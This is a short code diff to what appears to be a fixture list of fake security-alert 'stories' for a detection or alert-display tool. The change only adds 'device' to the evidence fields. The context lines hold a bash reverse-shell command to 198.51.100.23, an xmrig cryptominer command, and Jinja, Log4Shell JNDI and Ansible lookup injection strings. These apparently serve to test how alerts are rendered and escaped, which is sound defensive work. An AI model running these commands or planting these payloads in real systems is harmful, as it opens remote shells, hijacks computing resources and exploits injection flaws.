@@ -113,7 +113,7 @@ STORIES = (
         process="bash",
         command="bash -c 'exec 5<>/dev/tcp/198.51.100.23/4444; cat <&5 | while read l; do $l 2>&5 >&5; done' # `id`",
         techniques=("T1059.004", "T1071"),
-        evidence=("process", "ip", "user"),
+        evidence=("device", "process", "ip", "user"),
     ),
     Story(
         title="Cryptocurrency miner {{ 7*7 }} ${jndi:ldap://198.51.100.9/a}",
@@ -124,7 +124,7 @@ STORIES = (
         process="xmrig",
         command="/tmp/.x/xmrig -o stratum+tcp://pool.example:3333 -u 44{{ user }} -p x --donate-level 1",
         techniques=("T1496",),
-        evidence=("process", "ip", "url"),
+        evidence=("process", "device", "ip", "url"),
         additional={"hash rate": Raw("12345678901234567890.123456789"), "pool": "{{ lookup('env','HOME') }}"},
     ),
     Story(
